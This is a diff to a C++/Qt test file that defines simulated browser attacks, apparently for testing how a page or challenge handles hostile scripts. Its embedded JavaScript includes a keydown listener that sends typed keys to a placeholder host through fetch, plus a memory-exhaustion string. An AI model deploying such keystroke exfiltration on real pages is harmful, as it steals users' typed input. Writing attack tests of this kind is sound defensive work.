@@ -4,6 +4,8 @@
 #include "attack.h"
 #include "shared/eventually.h"
 
+#include <QtCore/qelapsedtimer.h>
+
 // A page that says what has not happened.
 QList<Attack> attacksToForge()
 {
@@ -63,7 +65,7 @@ QList<Attack> attacksToForge()
                       .script = "begun = () => { subs.success('x'.repeat(50e6)); done(); };"};
     attacks << Attack{.name = "a challenge in the middle of typing",
                       .script =
-                          "addEventListener('keydown', event =>"
+                          "addEventListener('keydown', event => event.key === 'x' &&"
                           "fetch('ELSEWHERE/key?' + event.key, {mode: 'no-cors'}), true);"
                           "executed = () => setTimeout(() => { subs['challenge-visible'](); done(); }, 150);"
                           "begun = done;",
@@ -73,8 +75,13 @@ QList<Attack> attacksToForge()
                               if (scene.challenges > 0)
                                   return;
                               scene.execute();
+                              QElapsedTimer sinceLetter;
+                              sinceLetter.start();
                               for (int letter = 0; letter < 20; ++letter) {
                                   letPass(60, "a person types this fast");
+                                  // A computer that is this busy makes pauses of its own.
+                                  if (sinceLetter.restart() > 300)
+                                      break;
                                   scene.type(QStringLiteral("x"));
                               }
                           },
